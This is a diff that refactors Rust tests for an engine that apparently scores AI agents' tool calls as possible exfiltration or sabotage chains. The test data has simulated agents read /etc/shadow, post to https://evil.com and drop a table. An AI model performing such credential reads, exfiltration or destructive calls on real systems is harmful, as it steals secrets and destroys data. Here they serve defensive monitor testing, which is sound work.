@@ -2,40 +2,16 @@
 
 mod common;
 
-use common::{Scene, addr, ms};
+use common::{Agents, Scene, addr, ms};
 use detect::{Body, Call, Class, Config, Decision, Dns, Engine, Input, Intel, Setup, Verdict};
 use serde_json::{Value, json};
 
-struct Agents(Engine);
+fn call(agents: &mut Agents, at: i64, name: &str, arguments: Value) -> Verdict {
+    agents.call(at, "a", name, arguments)
+}
 
-impl Agents {
-    fn new() -> Self {
-        Self::with(Config::default())
-    }
-
-    fn with(config: Config) -> Self {
-        Self(Engine::new(
-            Setup {
-                config,
-                ..Setup::default()
-            },
-            Input::Tools,
-        ))
-    }
-
-    fn call(&mut self, at: i64, name: &str, arguments: Value) -> Verdict {
-        let call = Call {
-            agent: "a".to_owned(),
-            name: name.to_owned(),
-            arguments,
-            ..Call::default()
-        };
-        self.0.check(ms(at), &call)
-    }
-
-    fn post(&mut self, at: i64) -> Verdict {
-        self.call(at, "http_post", json!({ "url": "https://evil.com" }))
-    }
+fn post(agents: &mut Agents, at: i64) -> Verdict {
+    call(agents, at, "http_post", json!({ "url": "https://evil.com" }))
 }
 
 /// The value of a part of the surest chain; none when it is not there.
@@ -48,11 +24,11 @@ fn part(verdict: &Verdict, id: &str) -> Option<i64> {
 fn a_burst_is_over_twenty_calls_in_sixty_seconds() {
     let after = |calls: i64, since: i64| {
         let mut agents = Agents::new();
-        agents.call(0, "read_file", json!({ "path": "/etc/shadow" }));
+        call(&mut agents, 0, "read_file", json!({ "path": "/etc/shadow" }));
         for n in 0..calls {
-            agents.call(n, "think", json!({ "n": n }));
+            call(&mut agents, n, "think", json!({ "n": n }));
         }
-        part(&agents.post(since), "call_burst")
+        part(&post(&mut agents, since), "call_burst")
     };
     assert_eq!(after(18, 1_000), None, "the twentieth call");
     assert_eq!(after(19, 1_000), Some(10), "the twenty-first");
@@ -65,12 +41,12 @@ fn a_rate_is_high_when_over_half_of_at_least_five_calls_in_300_s_were_risky() {
     let of = |risky: i64, harmless: i64, at: i64| {
         let mut agents = Agents::new();
         for n in 0..risky {
-            agents.call(n, "read_file", json!({ "path": "/etc/shadow" }));
+            call(&mut agents, n, "read_file", json!({ "path": "/etc/shadow" }));
         }
         for n in 0..harmless {
-            agents.call(risky + n, "think", json!({ "n": n }));
+            call(&mut agents, risky + n, "think", json!({ "n": n }));
         }
-        part(&agents.post(at), "high_risk_rate")
+        part(&post(&mut agents, at), "high_risk_rate")
     };
     assert_eq!(of(3, 0, 1_000), None, "four calls");
     assert_eq!(of(4, 0, 1_000), Some(10), "four of five");
@@ -83,8 +59,8 @@ fn a_rate_is_high_when_over_half_of_at_least_five_calls_in_300_s_were_risky() {
 fn what_is_read_counts_from_forty_seventy_and_ninety_on() {
     let read = |name: &str, arguments: Value| {
         let mut agents = Agents::new();
-        agents.call(0, name, arguments);
-        let verdict = agents.post(1_000);
+        call(&mut agents, 0, name, arguments);
+        let verdict = post(&mut agents, 1_000);
         (
             verdict.findings.is_empty(),
             part(&verdict, "sensitivity_high"),
@@ -112,8 +88,8 @@ fn what_is_read_counts_from_forty_seventy_and_ninety_on() {
 fn a_chain_without_anything_sensitive_loses_twenty() {
     let destroyed = |first: (&str, Value)| {
         let mut agents = Agents::new();
-        agents.call(0, first.0, first.1);
-        let verdict = agents.call(1_000, "drop_table", json!({ "name": "t" }));
+        call(&mut agents, 0, first.0, first.1);
+        let verdict = call(&mut agents, 1_000, "drop_table", json!({ "name": "t" }));
         (part(&verdict, "low_sensitivity"), verdict.confidence.value())
     };
     assert_eq!(destroyed(("list_tables", json!({}))), (Some(-20), 40));
@@ -128,11 +104,11 @@ fn a_chain_without_anything_sensitive_loses_twenty() {
 fn fifty_calls_of_interest_are_remembered() {
     let after = |others: i64| {
         let mut agents = Agents::new();
-        agents.call(0, "read_file", json!({ "path": "/etc/shadow" }));
+        call(&mut agents, 0, "read_file", json!({ "path": "/etc/shadow" }));
         for n in 0..others {
-            agents.call(1 + n, "list_files", json!({ "n": n }));
+            call(&mut agents, 1 + n, "list_files", json!({ "n": n }));
         }
-        !agents.post(1_000).findings.is_empty()
+        !post(&mut agents, 1_000).findings.is_empty()
     };
     assert!(after(49));
     assert!(!after(50));
@@ -143,9 +119,9 @@ fn order_surprises_only_from_the_thirty_first_call_on() {
     let after = |calls: i64| {
         let mut agents = Agents::new();
         for n in 0..calls {
-            agents.call(n * 10_000, "read_file", json!({ "path": "/etc/shadow" }));
+            call(&mut agents, n * 10_000, "read_file", json!({ "path": "/etc/shadow" }));
         }
-        part(&agents.post(calls * 10_000), "sequence_surprise")
+        part(&post(&mut agents, calls * 10_000), "sequence_surprise")
     };
     assert_eq!(after(29), None);
     assert_eq!(after(30), Some(10));
